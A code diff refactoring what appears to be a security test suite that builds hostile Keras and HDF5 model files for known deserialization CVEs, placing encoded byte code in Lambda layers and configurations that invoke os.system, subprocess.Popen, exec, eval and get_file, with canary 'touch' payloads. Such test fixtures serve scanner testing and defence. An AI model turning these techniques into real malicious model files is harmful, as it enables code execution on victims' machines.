@@ -27,40 +27,54 @@ from hostile.registry import CANARY_MODULE, Attack, Traps, attack, payload, pick
 Layers = Callable[[Traps], list[Config]]
 
 
-def in_both_formats(function: Layers) -> Layers:
+def in_both_formats(layers: Layers) -> Layers:
     """Registers layers as an attack in HDF5 and in ``.keras``."""
 
     def writer(path: Path, traps: Traps) -> None:
-        write_model(path, *function(traps))
+        write_model(path, *layers(traps))
 
     for file in ("model.h5", "model.keras"):
-        name = f"{function.__name__}_{Path(file).suffix[1:]}"
-        says = " ".join((function.__doc__ or "").split())
+        name = f"{layers.__name__}_{Path(file).suffix[1:]}"
+        says = " ".join((layers.__doc__ or "").split())
         register_attack(Attack(name, file, says, writer))
-    return function
+    return layers
+
+
+def code_of(traps: Traps) -> str:
+    return base64.b64encode(payload(traps)).decode()
+
+
+def byte_code(traps: Traps) -> Config:
+    """Byte code as Keras 3 writes a function."""
+    inner = {"code": code_of(traps), "defaults": None, "closure": None}
+    return {"class_name": "__lambda__", "config": inner}
+
+
+def named(module: str, kind: str, config: Any, **more: Any) -> Config:
+    """An object of a configuration by its module."""
+    return {"module": module, "class_name": kind, "config": config, **more}
+
+
+def function(module: str, name: str, **more: Any) -> Config:
+    return named(module, "function", name, **more)
+
+
+def evil(name: str = "evil", **settings: Any) -> Config:
+    return layer("Lambda", name, **settings)
 
 
 def calling(traps: Traps) -> list[Config]:
     """Objects of a configuration that would run a command if they were made."""
-    touch = traps.statement
+    touch, fetched = ["touch", str(traps.canary)], traps.secret.as_uri()
     return [
-        {"module": "os", "class_name": "function", "config": "system"},
-        {"module": "os", "class_name": "system", "config": {"command": traps.command}},
-        {
-            "module": "subprocess",
-            "class_name": "Popen",
-            "config": {"args": ["touch", str(traps.canary)]},
-            "registered_name": "Popen",
-        },
-        {"module": "builtins", "class_name": "exec", "config": {"source": touch}},
-        {"module": "builtins", "class_name": "function", "config": "eval"},
-        {"module": CANARY_MODULE, "class_name": "Conv2D", "config": {}},
-        {"module": CANARY_MODULE, "class_name": "function", "config": "function"},
-        {
-            "module": "keras.utils",
-            "class_name": "get_file",
-            "config": {"fname": str(traps.canary), "origin": traps.secret.as_uri()},
-        },
+        function("os", "system"),
+        named("os", "system", {"command": traps.command}),
+        named("subprocess", "Popen", {"args": touch}, registered_name="Popen"),
+        named("builtins", "exec", {"source": traps.statement}),
+        function("builtins", "eval"),
+        named(CANARY_MODULE, "Conv2D", {}),
+        function(CANARY_MODULE, "function"),
+        named("keras.utils", "get_file", {"fname": str(traps.canary), "origin": fetched}),
     ]
 
 
@@ -70,19 +84,13 @@ def calling(traps: Traps) -> list[Config]:
 @in_both_formats
 def lambda_byte_code(traps: Traps) -> list[Config]:
     """CVE-2024-3660: byte code in a Lambda layer in the form of its format."""
-    code = base64.b64encode(payload(traps)).decode()
-    return [conv(), layer("Lambda", "evil", function=[code, None, None], function_type="lambda")]
+    return [conv(), evil(function=[code_of(traps), None, None], function_type="lambda")]
 
 
 @in_both_formats
 def lambda_first(traps: Traps) -> list[Config]:
     """CVE-2025-9905: byte code in the first layer, for which safe_mode is not looked at."""
-    code = base64.b64encode(payload(traps)).decode()
-    value = {
-        "class_name": "__lambda__",
-        "config": {"code": code, "defaults": None, "closure": None},
-    }
-    return [layer("Lambda", "evil", function=value, function_type="lambda"), conv()]
+    return [evil(function=byte_code(traps), function_type="lambda"), conv()]
 
 
 @in_both_formats
@@ -110,129 +118,82 @@ def lambda_damaged_code(traps: Traps) -> list[Config]:
 @in_both_formats
 def lambda_output_shape(traps: Traps) -> list[Config]:
     """CVE-2024-3660: a harmless function, but byte code to tell the shape of the output."""
-    code = base64.b64encode(payload(traps)).decode()
-    return [
-        conv(),
-        layer(
-            "Lambda",
-            "evil",
-            function="relu",
-            function_type="function",
-            output_shape=[code, None, None],
-            output_shape_type="lambda",
-        ),
-    ]
+    code = code_of(traps)
+    shape = {"output_shape": [code, None, None], "output_shape_type": "lambda"}
+    return [conv(), evil(function="relu", function_type="function", **shape)]
 
 
 @in_both_formats
 def lambda_named_function(traps: Traps) -> list[Config]:
     """CVE-2025-8747: no byte code, but the name of a function and its arguments."""
+    given = {"command": traps.command}
+    old = {"function": "system", "function_type": "function", "module": "os"}
     return [
         conv(),
-        layer(
-            "Lambda",
-            "evil",
-            function={"module": "os", "class_name": "function", "config": "system"},
-            arguments={"command": traps.command},
-        ),
-        layer(
-            "Lambda",
-            "worse",
-            function="system",
-            function_type="function",
-            module="os",
-            arguments={"command": traps.command},
-        ),
+        evil(function=function("os", "system"), arguments=given),
+        evil("worse", **old, arguments=given),
     ]
 
 
 @in_both_formats
 def lambda_gadget_get_file(traps: Traps) -> list[Config]:
     """CVE-2025-8747: keras.utils.get_file as the function of a Lambda, which writes a file."""
-    return [
-        conv(),
-        layer(
-            "Lambda",
-            "evil",
-            function={"module": "keras.utils", "class_name": "function", "config": "get_file"},
-            arguments={
-                "fname": str(traps.canary),
-                "origin": traps.secret.as_uri(),
-                "cache_dir": str(traps.folder),
-                "extract": True,
-            },
-        ),
-    ]
+    given = {"fname": str(traps.canary), "origin": traps.secret.as_uri()}
+    given |= {"cache_dir": str(traps.folder), "extract": True}
+    return [conv(), evil(function=function("keras.utils", "get_file"), arguments=given)]
 
 
 @in_both_formats
 def activation_gadget_get_file(traps: Traps) -> list[Config]:
     """CVE-2025-8747: a function of Keras that fetches files, as an activation."""
-    chosen = {
-        "module": "keras.utils",
-        "class_name": "function",
-        "config": "get_file",
-        "registered_name": "get_file",
-    }
+    chosen = function("keras.utils", "get_file", registered_name="get_file")
     return [conv(activation=chosen)]
 
 
 @in_both_formats
 def unsafe_switch(traps: Traps) -> list[Config]:
     """CVE-2025-9906: switches safe mode off by a function of Keras, a Lambda follows."""
-    switch = {
-        "module": "keras.config",
-        "class_name": "function",
-        "config": "enable_unsafe_deserialization",
-        "registered_name": "enable_unsafe_deserialization",
-    }
-    code = base64.b64encode(payload(traps)).decode()
-    value = {
-        "class_name": "__lambda__",
-        "config": {"code": code, "defaults": None, "closure": None},
-    }
+    name = "enable_unsafe_deserialization"
+    switch = function("keras.config", name, registered_name=name)
     return [
         conv(activation=switch, kernel_initializer=switch),
-        {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}},
-        layer("Lambda", "evil", function=value),
+        named("keras.config", name, {}),
+        evil(function=byte_code(traps)),
     ]
 
 
 @in_both_formats
 def lambda_in_wrappers(traps: Traps) -> list[Config]:
     """CVE-2024-3660: byte code inside wrappers of wrappers."""
-    code = base64.b64encode(payload(traps)).decode()
-    evil = layer("Lambda", "evil", function=[code, None, None], function_type="lambda")
-    inner = layer("TimeDistributed", "inner", layer=evil)
+    wrapped = evil(function=[code_of(traps), None, None], function_type="lambda")
+    inner = layer("TimeDistributed", "inner", layer=wrapped)
     return [conv(), layer("TimeDistributed", "outer", layer=inner)]
 
 
 @in_both_formats
 def lambda_in_cells(traps: Traps) -> list[Config]:
     """CVE-2024-3660: byte code as the cell of a recurrent layer, and in a stack of them."""
-    code = base64.b64encode(payload(traps)).decode()
-    evil = layer("Lambda", "evil", function=[code, None, None])
-    stack = layer("StackedRNNCells", "stack", cells=[evil])
+    cell = evil(function=[code_of(traps), None, None])
+    stack = layer("StackedRNNCells", "stack", cells=[cell])
     return [
         conv(),
         layer("Reshape", "rows", target_shape=[8, 16]),
         layer("RNN", "first", cell=stack, return_sequences=True),
-        layer("RNN", "second", cell=evil),
+        layer("RNN", "second", cell=cell),
     ]
 
 
 @in_both_formats
 def lambda_in_pipeline(traps: Traps) -> list[Config]:
     """CVE-2024-3660: byte code inside the layer of Keras that holds a list of layers."""
-    code = base64.b64encode(payload(traps)).decode()
-    evil = as_version_3(layer("Lambda", "evil", function=[code, None, None]))
-    return [conv(), layer("Pipeline", "pipeline", layers=[evil])]
+    inner = as_version_3(evil(function=[code_of(traps), None, None]))
+    return [conv(), layer("Pipeline", "pipeline", layers=[inner])]
 
 
 @in_both_formats
 def lambda_in_nested_model(traps: Traps) -> list[Config]:
     """CVE-2024-3660: byte code in a model in a model, under other names of the class."""
-    code = base64.b64encode(payload(traps)).decode()
+    code = code_of(traps)
     names = ("Lambda", "Custom>Lambda", "keras>Lambda", "builtins>Lambda", "keras.layers>Lambda")
     inner = [
         layer(name, f"evil_{number}", function=[code, None, None], function_type="lambda")
@@ -258,11 +219,7 @@ def tfsm_layer(traps: Traps) -> list[Config]:
 @in_both_formats
 def jax_and_flax_layers(traps: Traps) -> list[Config]:
     """JaxLayer and FlaxLayer, whose functions are byte code or pickles."""
-    code = base64.b64encode(payload(traps)).decode()
-    value = {
-        "class_name": "__lambda__",
-        "config": {"code": code, "defaults": None, "closure": None},
-    }
+    value = byte_code(traps)
     return [
         conv(),
         layer("JaxLayer", "evil", call_fn=value, init_fn=value, params=[], state=[]),
@@ -276,8 +233,7 @@ def jax_and_flax_layers(traps: Traps) -> list[Config]:
 @in_both_formats
 def layer_classes(traps: Traps) -> list[Config]:
     """CVE-2025-1550: layers whose module and class are arbitrary functions."""
-    named = [{**value, "name": f"evil_{n}"} for n, value in enumerate(calling(traps))]
-    return [conv(), *named]
+    return [conv(), *({**value, "name": f"evil_{n}"} for n, value in enumerate(calling(traps)))]
 
 
 @in_both_formats
@@ -313,14 +269,8 @@ def _in_setting(setting: str, says: str) -> None:
 
 
 for _setting in (
-    "activation",
-    "kernel_initializer",
-    "bias_regularizer",
-    "activity_regularizer",
-    "kernel_constraint",
-    "dtype",
-    "padding",
-    "name",
+    *("activation", "kernel_initializer", "bias_regularizer", "activity_regularizer"),
+    *("kernel_constraint", "dtype", "padding", "name"),
 ):
     _in_setting(_setting, f"CVE-2025-1550: arbitrary functions as the {_setting} of a layer.")
 
@@ -339,9 +289,8 @@ def call_arguments(path: Path, traps: Traps) -> None:
 def lambda_in_call_arguments(path: Path, traps: Traps) -> None:
     """A function as byte code and as a typespec among the arguments of a call."""
     config = functional(conv(), layer("ReLU", "relu"), version=3)
-    code = base64.b64encode(payload(traps)).decode()
     config["config"]["layers"][2]["inbound_nodes"][0]["args"] += [
-        {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}},
+        byte_code(traps),
         {"class_name": "__typespec__", "spec_name": "os.system", "module": "os", "config": []},
     ]
     write_keras(path, config)
@@ -350,13 +299,8 @@ def lambda_in_call_arguments(path: Path, traps: Traps) -> None:
 @attack("model.keras")
 def typespec_setting(path: Path, traps: Traps) -> None:
     """CVE-2025-1550: a typespec, which imports a module and calls what it names."""
-    spec = {
-        "class_name": "__typespec__",
-        "spec_name": "Popen",
-        "module": "subprocess",
-        "config": [["touch", str(traps.canary)]],
-        "registered_name": None,
-    }
+    spec = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess"}
+    spec |= {"config": [["touch", str(traps.canary)]], "registered_name": None}
     write_keras(path, sequential(conv(activity_regularizer=spec, activation=spec), version=3))
 
 
@@ -379,28 +323,28 @@ def model_registered_name(path: Path, traps: Traps) -> None:
 def _collisions() -> None:
     """Registers each stolen name as a file of its own."""
     stolen = ("layersight>Unset", "layersight>TensorFlowCall", "layersight>Formula", "Sequential")
-    evil = ["call", "os.system", [["value", "true"]], {}]
+    call = ["call", "os.system", [["value", "true"]], {}]
     layers = [
         *({**conv(), "registered_name": name} for name in stolen),
         layer("layersight>TensorFlowCall", "a", function="os.system"),
         layer("TensorFlowCall", "b", function="__builtins__.exec"),
         layer("TensorFlowCall", "b", function="math.add_n"),
-        layer("Formula", "c", expression=evil),
+        layer("Formula", "c", expression=call),
         layer("Unset", "d", shape=[10**6, 10**6]),
         layer("Refused", "e", reason="none", outputs=10**9),
         conv(activation="hard_sigmoid_of_keras_2"),
-        conv(activation={"class_name": "Formula", "config": {"expression": evil}}),
+        conv(activation={"class_name": "Formula", "config": {"expression": call}}),
         conv(kernel_initializer={"class_name": "Unset", "config": {"shape": [10**9]}}),
     ]
-    says = "A name that layersight or Keras has registered for itself: "
+    stolen_name = "A name that layersight or Keras has registered for itself: "
     for number, entry in enumerate(layers):
 
         def writer(path: Path, traps: Traps, entry: Config = entry) -> None:
             first = [] if entry["class_name"] == "Conv2D" else [conv()]
             write_keras(path, sequential(*first, entry, version=3))
 
-        named = f"{entry['class_name']}, {entry.get('registered_name')}"
-        register_attack(Attack(f"collision_{number}", "model.keras", says + named, writer))
+        says = f"{stolen_name}{entry['class_name']}, {entry.get('registered_name')}"
+        register_attack(Attack(f"collision_{number}", "model.keras", says, writer))
 
 
 _collisions()
@@ -409,11 +353,7 @@ _collisions()
 @attack("model.keras")
 def operation_modules(path: Path, traps: Traps) -> None:
     """Operations of Keras that run a function given to them: Map, Scan, Cond, While."""
-    code = base64.b64encode(payload(traps)).decode()
-    value = {
-        "class_name": "__lambda__",
-        "config": {"code": code, "defaults": None, "closure": None},
-    }
+    value = byte_code(traps)
     names = ("Map", "Scan", "AssociativeScan", "WhileLoop", "VectorizedMap", "Cond", "Switch")
     layers = [
         {**layer(name, name.lower(), function=value, f=value), "module": "keras.src.ops.core"}
@@ -434,7 +374,7 @@ def compile_config(path: Path, traps: Traps) -> None:
 @attack("model.h5")
 def training_config(path: Path, traps: Traps) -> None:
     """CVE-2025-9905: byte code in the training configuration of an HDF5 file."""
-    code = base64.b64encode(payload(traps)).decode()
+    code = code_of(traps)
     text = {"optimizer_config": calling(traps)[2], "loss": [code, None, None], "metrics": ["eval"]}
     write_h5(
         path,
